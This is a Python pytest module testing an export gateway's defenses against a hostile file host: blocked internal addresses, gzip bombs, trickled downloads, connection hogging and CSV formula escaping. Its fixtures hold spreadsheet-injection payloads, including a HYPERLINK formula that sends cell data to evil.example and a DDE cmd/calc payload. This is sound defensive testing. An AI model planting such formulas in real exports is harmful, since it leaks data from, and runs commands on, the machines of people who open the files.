"""CSV links are upstream's data, not trusted: what a link points at, and what a file host
answers, never reaches further than the caller's own download.

The real stack (API + worker processes, the sandbox upstream over HTTP) with the sandbox's links
pointed (``public_base_url``) at a hostile file host run here: one on another loopback address
standing for an internal service, one that answers gzip bombs, trickles, formulas, or files
larger than anyone reads."""

from __future__ import annotations

import asyncio
import gzip
import os
import subprocess
import time
import uuid
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import httpx
import pytest
from fastapi import FastAPI
from fastapi.responses import Response, StreamingResponse

from tests.support import KEYS, ROOT, ServerThread, Stack, wait_for

DEADLINE_SECONDS = 4
CLI = ROOT / ".venv" / "bin" / "export-gateway"
HEADER = b"id,signer_id,created_time,custom_data.notes\n"
FORMULA_ROWS = (
    b'1,s1,2026-01-01,=HYPERLINK("http://evil.example/?"&A1)\n'
    b"2,s2,2026-01-02,+1+1\n"
    b"3,s3,2026-01-03,-2+3\n"
    b"4,s4,2026-01-04,@SUM(1)\n"
    b"5,s5,2026-01-05,\tpadded\n"
    b"6,s6,2026-01-06,\"=cmd|' /C calc'!A0\"\n"
    b'7,s7,2026-01-07,"\rreturn"\n'
    b'8,s8,2026-01-08,"quoted ""=not a formula"""\n'
    b"9,s9,2026-01-09,plain -text\n"
)
ESCAPED_ROWS = (
    b'1,s1,2026-01-01,\'=HYPERLINK("http://evil.example/?"&A1)\n'
    b"2,s2,2026-01-02,'+1+1\n"
    b"3,s3,2026-01-03,'-2+3\n"
    b"4,s4,2026-01-04,'@SUM(1)\n"
    b"5,s5,2026-01-05,'\tpadded\n"
    b"6,s6,2026-01-06,\"'=cmd|' /C calc'!A0\"\n"
    b'7,s7,2026-01-07,"\'\rreturn"\n'
    b'8,s8,2026-01-08,"quoted ""=not a formula"""\n'
    b"9,s9,2026-01-09,plain -text\n"
)
SECRET = b"internal-service-secret-7f3a"
ROW = b"1,signer,2026-01-01T00:00:00Z," + b"x" * 200 + b"\n"


def hostile_host() -> FastAPI:
    app = FastAPI()
    bomb = gzip.compress(HEADER + ROW * 200_000, compresslevel=9)  # ~40 MiB inflated

    @app.get("/secret/{rest:path}")
    async def secret(rest: str) -> Response:
        return Response(HEADER + b"1,2,3," + SECRET + b"\n", media_type="text/csv")

    @app.get("/gzip/{rest:path}")
    async def gzipped(rest: str) -> Response:
        return Response(bomb, media_type="text/csv", headers={"Content-Encoding": "gzip"})

    @app.get("/trickle/{rest:path}")
    async def trickle(rest: str) -> StreamingResponse:
        async def rows() -> AsyncIterator[bytes]:
            yield HEADER
            for _ in range(60):
                await asyncio.sleep(1)
                yield ROW

        return StreamingResponse(rows(), media_type="text/csv")

    @app.get("/formula/{rest:path}")
    async def formula(rest: str) -> Response:
        return Response(HEADER + FORMULA_ROWS, media_type="text/csv")

    @app.get("/big/{rest:path}")
    async def big(rest: str) -> StreamingResponse:
        async def rows() -> AsyncIterator[bytes]:
            yield HEADER
            for _ in range(20_000):  # ~44 MiB: more than socket buffers hold
                yield ROW * 10

        return StreamingResponse(rows(), media_type="text/csv")

    return app


SHARED_STACK_ENV = {"GATEWAY_DOWNLOAD_DEADLINE_SECONDS": str(DEADLINE_SECONDS)}


@pytest.fixture(scope="module")
def files() -> Iterator[ServerThread]:
    server = ServerThread(hostile_host())
    yield server.start()
    server.stop()


@pytest.fixture(scope="module")
def internal() -> Iterator[ServerThread]:
    """A service on another loopback address, outside the allowed file networks (the stack
    allows only 127.0.0.1/32, where the sandbox and the hostile host live)."""
    server = ServerThread(hostile_host(), host="127.0.0.2")
    yield server.start()
    server.stop()


@pytest.fixture(scope="module")
def gateway(shared_stack: Stack) -> Stack:
    """The module's stack (``SHARED_STACK_ENV``), on a freshly flushed database."""
    return shared_stack


async def completed_export(stack: Stack, sandbox: httpx.Client, root: str, who: str) -> str:
    """A completed export of ``who`` whose links point under ``root``."""
    sandbox.post("/_sandbox/config", json={"public_base_url": root, "rows": 50}).raise_for_status()
    async with stack.client(who) as api:
        created = await api.post("/v1/exports", json={"filter": f"batch=={uuid.uuid4().hex[:8]}"})
        assert created.status_code == 202, created.text
        done = await wait_for(api, created.json()["id"])
    assert done["status"] == "completed", done
    return str(done["id"])


@pytest.mark.parametrize("scheme", ["http", "https"])
async def test_a_link_to_an_address_outside_the_allowed_networks_is_never_fetched(
    gateway: Stack, sandbox: httpx.Client, internal: ServerThread, scheme: str
) -> None:
    root = f"{scheme}://127.0.0.2:{internal.port}/secret"
    export_id = await completed_export(gateway, sandbox, root, "alice")
    async with gateway.client() as api:
        response = await api.get(f"/v1/exports/{export_id}/csv")
    assert response.status_code == 502, response.text[:300]
    assert SECRET not in response.content
    problem = response.json()
    assert response.headers["content-type"] == "application/problem+json"
    assert "127.0.0.2" in problem["detail"] and "file links" in problem["detail"]
    assert "may not reach" in problem["detail"]


async def test_a_gzip_encoded_file_is_refused_not_inflated(
    gateway: Stack, sandbox: httpx.Client, files: ServerThread
) -> None:
    export_id = await completed_export(gateway, sandbox, f"{files.url}/gzip", "alice")
    async with gateway.client() as api:
        response = await api.get(f"/v1/exports/{export_id}/csv")
    assert response.status_code == 502, response.content[:300]
    assert len(response.content) < 10_000
    assert "gzip" in response.json()["detail"]


async def test_a_download_ends_by_its_deadline_however_slowly_the_file_host_answers(
    gateway: Stack, sandbox: httpx.Client, files: ServerThread
) -> None:
    export_id = await completed_export(gateway, sandbox, f"{files.url}/trickle", "alice")
    started = time.monotonic()
    received = b""
    ended_cleanly = False
    status = 0
    async with gateway.client() as api:
        try:
            async with api.stream("GET", f"/v1/exports/{export_id}/csv", timeout=30) as response:
                status = response.status_code
                async for chunk in response.aiter_raw():
                    received += chunk
                    if time.monotonic() - started > 25:
                        break
                ended_cleanly = True
        except httpx.HTTPError:
            pass  # cut short: never a clean end of a partial file
    assert status == 200
    elapsed = time.monotonic() - started
    assert not ended_cleanly
    assert elapsed < DEADLINE_SECONDS + 6, elapsed
    assert received.startswith(HEADER)


async def test_escape_formulas_prefixes_dangerous_cells_and_nothing_else(
    gateway: Stack, sandbox: httpx.Client, files: ServerThread
) -> None:
    export_id = await completed_export(gateway, sandbox, f"{files.url}/formula", "alice")
    async with gateway.client() as api:
        plain = await api.get(f"/v1/exports/{export_id}/csv")
        escaped = await api.get(f"/v1/exports/{export_id}/csv", params={"escape_formulas": "true"})
    assert plain.status_code == escaped.status_code == 200
    assert plain.content == HEADER + FORMULA_ROWS  # byte-identical unless asked
    assert escaped.content == HEADER + ESCAPED_ROWS


async def test_one_client_holding_downloads_open_never_blocks_another_clients_download(
    gateway: Stack, sandbox: httpx.Client, files: ServerThread
) -> None:
    hog_export = await completed_export(gateway, sandbox, f"{files.url}/big", "alice")
    other_export = await completed_export(gateway, sandbox, f"{files.url}/formula", "bob")
    limits = httpx.Limits(max_connections=None)
    async with (
        httpx.AsyncClient(
            base_url=gateway.api_url,
            headers={"Authorization": f"Bearer {KEYS['alice']}"},
            timeout=60,
            limits=limits,
        ) as hog,
        gateway.client("bob") as other,
    ):

        async def open_unread() -> httpx.Response:
            request = hog.build_request("GET", f"/v1/exports/{hog_export}/csv")
            return await hog.send(request, stream=True)  # and never read

        opened: list[httpx.Response] = list(
            await asyncio.gather(*(open_unread() for _ in range(100)))
        )
        try:
            statuses = sorted(r.status_code for r in opened)
            started = time.monotonic()
            response = await other.get(f"/v1/exports/{other_export}/csv", timeout=20)
            waited = time.monotonic() - started
        finally:
            for r in opened:
                await r.aclose()
    assert response.status_code == 200, response.text[:300]
    assert response.content == HEADER + FORMULA_ROWS
    assert waited < 5, waited
    assert statuses.count(200) == 4, statuses
    assert statuses.count(429) == 96, statuses
    refused = next(r for r in opened if r.status_code == 429)
    assert int(refused.headers["retry-after"]) >= 1


async def test_the_cli_downloads_with_escaped_formulas_when_asked(
    gateway: Stack, sandbox: httpx.Client, files: ServerThread, tmp_path: Path
) -> None:
    export_id = await completed_export(gateway, sandbox, f"{files.url}/formula", "alice")
    env = {k: v for k, v in os.environ.items() if not k.startswith("GATEWAY_")}
    outputs = {}
    for name, flags in (("plain", []), ("escaped", ["--escape-formulas"])):
        target = tmp_path / f"{name}.csv"
        result = subprocess.run(
            [str(CLI), "download", export_id, "-o", str(target), "-q", *flags,
             "--url", gateway.api_url, "--key", KEYS["alice"]],
            capture_output=True, text=True, timeout=60, check=False, env=env,
        )  # fmt: skip
        assert result.returncode == 0, result.stderr
        outputs[name] = target.read_bytes()
    assert outputs == {"plain": HEADER + FORMULA_ROWS, "escaped": HEADER + ESCAPED_ROWS}
